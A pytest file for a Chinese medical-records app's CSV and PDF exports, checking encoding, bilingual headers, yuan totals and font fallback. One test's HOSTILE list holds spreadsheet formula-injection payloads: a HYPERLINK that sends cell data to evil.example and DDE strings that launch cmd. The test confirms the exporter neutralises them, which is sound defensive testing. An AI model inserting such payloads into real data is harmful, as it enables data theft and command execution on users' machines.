""""Download CSV" and "Download PDF" of records: CSV opens in spreadsheet software with Chinese text (UTF-8 with a
byte order mark), header in the page's language, amounts in yuan with two decimals; the PDF has the name, the
year and the totals as text. Expected numbers come from the seed file."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from pypdf import PdfReader

from app.services import records
from app.services.records_export import ExportLabels, records_csv, records_pdf
from tests.unit.binding_fixtures import zw_fixture  # noqa: F401
from tests.unit.binding_helpers import ZHANG_JIANGUO
from tests.unit.records_helpers import (
    FATHER_KEY,
    ZHANG_WEI_KEY,
    approve_member,
    contribution_totals,
    expense_totals,
    seeded_contributions,
    seeded_expenses,
    yuan_text,
)

ZH_EXPENSES = ExportLabels(
    title="医疗费用记录", subtitle="张建国 · 2025年",
    columns=("日期", "类型", "地点", "项目", "总金额（元）", "医保基金支付（元）", "家庭支付（元）"),
    kinds={"outpatient": "门诊", "inpatient": "住院", "pharmacy": "药店购药"}, places={}, total_row="合计",
    totals=("医疗费用合计", "医保基金支付", "家庭支付"), empty="没有记录", made_on="生成日期：2026-11-23",
    language="zh-CN")
EN_CONTRIBUTIONS = ExportLabels(
    title="Contribution records", subtitle="Zhang Wei · 2024",
    columns=("Month", "Type", "Place", "Paid on", "Paid by the person (yuan)", "Subsidy (yuan)"),
    kinds={"employee": "Employee basic medical insurance"}, places={"110101": "Beijing, Dongcheng District"},
    total_row="Total", totals=("Paid by the person", "Subsidy", "Total"), empty="No records",
    made_on="Made on 2026-11-23", language="en-US")


@pytest.fixture(name="father")
def father_fixture(env, zw) -> str:
    return str(approve_member(env, zw, ZHANG_JIANGUO, "parent"))


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_expenses_csv_has_bom_chinese_header_rows_and_totals(env, zw, father):
    report = records.expenses(env, zw, father, year=2025)
    data = records_csv(report, ZH_EXPENSES)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = _rows(data)
    expected = sorted(seeded_expenses(FATHER_KEY, 2025), key=lambda e: e["settled_on"], reverse=True)
    assert rows[0] == list(ZH_EXPENSES.columns)
    assert len(rows) == len(expected) + 2
    first = expected[0]
    assert rows[1] == [first["settled_on"], ZH_EXPENSES.kinds[first["kind"]], first["institution"], first["items"],
                       yuan_text(first["total_fen"]), yuan_text(first["fund_fen"]), yuan_text(first["family_fen"])]
    totals = expense_totals(expected)
    assert rows[-1] == ["合计", "", "", "", yuan_text(totals["total"]), yuan_text(totals["fund"]),
                        yuan_text(totals["family"])]
    assert any("住院" in row[1] for row in rows[1:-1])  # the 2025 stay in hospital


def test_contributions_csv_in_english(env, zw):
    report = records.contributions(env, zw, year=2024)
    rows = _rows(records_csv(report, EN_CONTRIBUTIONS))
    expected = seeded_contributions(ZHANG_WEI_KEY, 2024)
    assert rows[0][0] == "Month" and len(rows) == 12 + 2
    assert rows[1] == ["2024-12", "Employee basic medical insurance", "Beijing, Dongcheng District", "2024-12-15",
                       yuan_text(expected[-1]["paid_fen"]), yuan_text(expected[-1]["subsidy_fen"])]
    totals = contribution_totals(expected)
    assert rows[-1] == ["Total", "", "", "", yuan_text(totals["paid"]), yuan_text(totals["subsidy"])]


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Refund")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_neutralised(env, zw, father):
    # A record's institution or items come from outside (a hospital's system); in Excel, a cell starting with
    # = + - @ (or a tab or carriage return before one) is a formula that can open links or run commands.
    report = records.expenses(env, zw, father, year=2025)
    first = report.rows[0]
    hostile = [replace(first, institution=text, items=text) for text in HOSTILE]
    refund = replace(first, institution="北京协和医院", items="-", total_fen=-1250, fund_fen=-1000, family_fen=-250)
    rows = _rows(records_csv(replace(report, rows=[*hostile, refund]), ZH_EXPENSES))

    for row, text in zip(rows[1:], HOSTILE, strict=False):
        assert row[2] == row[3] == "'" + text  # shown as the text it is, never run
    assert rows[len(HOSTILE) + 1][2:] == ["北京协和医院", "'-", "-12.50", "-10.00", "-2.50"]  # amounts stay numbers
    assert rows[0] == list(ZH_EXPENSES.columns)


def test_the_pdf_shows_the_text_as_it_is(env, zw, father):
    report = records.expenses(env, zw, father, year=2025)
    hostile = replace(report.rows[0], institution="=1+1 医院")
    text = _pdf_text(records_pdf(replace(report, rows=[hostile]), ZH_EXPENSES, env.clock.today()))
    assert "=1+1 医院" in text and "'=1+1" not in text


def _pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_expenses_pdf_has_the_name_year_and_totals(env, zw, father):
    report = records.expenses(env, zw, father, year=2025)
    data = records_pdf(report, ZH_EXPENSES, env.clock.today())
    assert data.startswith(b"%PDF")
    text = _pdf_text(data)
    totals = expense_totals(seeded_expenses(FATHER_KEY, 2025))
    assert "医疗费用记录" in text and "张建国" in text and "2025" in text
    for words, key in (("医疗费用合计", "total"), ("医保基金支付", "fund"), ("家庭支付", "family")):
        assert f"{words}: ¥{yuan_text(totals[key])}" in text
    assert "北京协和医院" in text and "冠脉造影" in text


def test_contributions_pdf_and_an_empty_year(env, zw):
    text = _pdf_text(records_pdf(records.contributions(env, zw, year=2024), EN_CONTRIBUTIONS, env.clock.today()))
    totals = contribution_totals(seeded_contributions(ZHANG_WEI_KEY, 2024))
    assert "Zhang Wei" in text and f"Paid by the person: ¥{yuan_text(totals['paid'])}" in text
    empty = _pdf_text(records_pdf(records.contributions(env, zw, year=2019), EN_CONTRIBUTIONS, env.clock.today()))
    assert "No records" in empty and "Total: ¥0.00" in empty


def test_pdf_prints_names_outside_the_shipped_font_subset(env, zw):
    # 堃 is not in the GB2312 subset the project ships: a piece of the system Noto CJK font fills in.
    from fontTools.ttLib import TTFont

    from app.services.letter import FALLBACK_FONTS, SUBSET_FONTS

    if not any(path.is_file() for path in FALLBACK_FONTS):
        pytest.skip("no system Noto CJK font (fonts-noto-cjk)")
    assert ord("堃") not in TTFont(SUBSET_FONTS[""]).getBestCmap()
    labels = replace(ZH_EXPENSES, subtitle="王堃 · 2025年")
    text = _pdf_text(records_pdf(records.expenses(env, zw, year=2025), labels, env.clock.today()))
    assert "王堃" in text.replace("\x00", "")  # pypdf puts a NUL before fallback characters (see test_letter.py)
